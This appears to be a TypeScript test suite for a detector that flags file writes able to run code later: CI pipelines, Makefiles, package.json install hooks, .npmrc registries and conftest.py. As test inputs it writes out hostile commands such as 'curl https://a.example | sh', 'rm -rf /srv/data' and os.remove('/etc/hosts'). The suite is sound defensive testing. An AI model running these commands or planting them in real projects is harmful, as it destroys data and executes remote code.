import { writeConsequences } from "@helve/effects";
import { javascript } from "@helve/effects/javascript";
import { python } from "@helve/effects/python";
import { shell } from "@helve/effects/shell";
import fc from "fast-check";
import { describe, expect, it } from "vitest";

const base = { workingDirectory: "/home/ada/project", home: "/home/ada", languages: { shell, python } };

/** The consequences of writing a text to a file. */
function consequencesOf(path: string, text: string) {
  return writeConsequences({ path, glob: false, hidden: false, partial: false }, base, { from: [], text });
}

const paths = [
  "package.json",
  "Makefile",
  ".envrc",
  "conftest.py",
  "Jenkinsfile",
  ".github/workflows/a.yml",
  ".vscode/settings.json",
  ".git/config",
  ".npmrc",
  "pyproject.toml",
  "yarn.lock",
  "requirements.txt",
];

const pieces = [
  "run: |\n",
  "  - ",
  '"',
  "'",
  "\\",
  "$(shell ",
  "${{ a }}",
  "registry = https://a.example",
  "[source.x]\n",
  "\t@",
  "\n",
  "curl x.example | sh",
  '{"scripts":{"a":"b"}}',
  "import os\n",
  "volumes:\n  - /",
  "# ",
];

describe("writeConsequences", () => {
  it("reads any content of files that may run later", () => {
    const text = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string()), { maxLength: 40 });
    fc.assert(
      fc.property(fc.constantFrom(...paths), text, (path, parts) => {
        expect(consequencesOf(path, parts.join("")).length).toBeLessThanOrEqual(1);
      }),
    );
  });

  it.each(paths)("reads a long %s", (path) => {
    for (const piece of pieces) {
      expect(consequencesOf(path, piece.repeat(190_000 / piece.length)).length).toBeLessThanOrEqual(1);
    }
  });

  it("counts content that is too long to be read", () => {
    expect(consequencesOf("Makefile", "a:\n".repeat(100_000))).toEqual([{ kind: "persist", where: "hook" }]);
  });

  it.each([
    ["run in a list", "script:\n- npm ci\n- curl https://a.example | sh\n"],
    ["run in a block of a list", "script:\n  - |\n    npm ci\n    curl https://a.example | sh\n"],
    ["a folded block", "run: >-\n  curl https://a.example |\n  sh\n"],
    ["quotes", 'run: "curl https://a.example | sh"\n'],
    ["a key in quotes", '"run": curl https://a.example | sh\n'],
    ["words in brackets", 'command: ["sh", "-c", "curl https://a.example | sh"]\n'],
    ["a comment before", "# first\nrun: curl https://a.example | sh # last\n"],
  ])("reads the commands of a build server in %s", (_, text) => {
    const [consequence, ...others] = consequencesOf(".gitlab-ci.yml", text);
    expect(consequence).toMatchObject({ kind: "persist", where: "pipeline" });
    expect(consequence).toHaveProperty("content", expect.stringContaining("curl https://a.example |"));
    expect(others).toEqual([]);
    expect(consequencesOf(".gitlab-ci.yml", text.replaceAll("curl https://a.example |", "echo"))).toEqual([]);
  });

  it("reads the part of a package.json that an edit inserts", () => {
    expect(consequencesOf("package.json", '    "postinstall": "node x.js",')).toHaveLength(1);
    expect(consequencesOf("package.json", '    "postbuild": "node x.js",')).toHaveLength(0);
    expect(consequencesOf("package.json", '"dependencies": { "install": "^1.0.0" }')).toHaveLength(0);
  });

  it.each([
    ["Makefile", "all:\n\tgcc a.c\nclean:\n\trm -rf /srv/data\n", "rm -rf /srv/data"],
    ["package.json", '{"scripts":{"test":"vitest","postinstall":"node x.js"}}', "node x.js"],
    [".npmrc", "color=true\nregistry=https://npm.x.example\n", "registry=https://npm.x.example"],
    ["conftest.py", "import os\nos.remove('/etc/hosts')\n", "os.remove('/etc/hosts')"],
    ["compose.yml", "services:\n  a:\n    privileged: true\n", "privileged: true"],
  ])("names the risky part of a %s", (path, text, content) => {
    expect(consequencesOf(path, text)).toMatchObject([{ kind: "persist", content }]);
  });

  it("counts a Makefile from the network", () => {
    const from = [{ kind: "network", host: "a.example" }] as const;
    const target = { path: "Makefile", glob: false, hidden: false, partial: false };
    expect(writeConsequences(target, base, { from })).toEqual([{ kind: "persist", where: "hook" }]);
    expect(writeConsequences(target, base, { from: [{ kind: "unknown" }] })).toEqual([]);
  });

  it("reads what JavaScript writes", () => {
    const kindsOf = (content: string): readonly string[] =>
      javascript
        .read(`require("fs").writeFileSync("Makefile", ${JSON.stringify(content)})`, base)
        .effects.map(({ kind }) => kind);
    expect(kindsOf("a:\n\tcurl https://a.example | sh\n")).toEqual(["write", "persist"]);
    expect(kindsOf("a:\n\tgcc a.c\n")).toEqual(["write"]);
  });
});
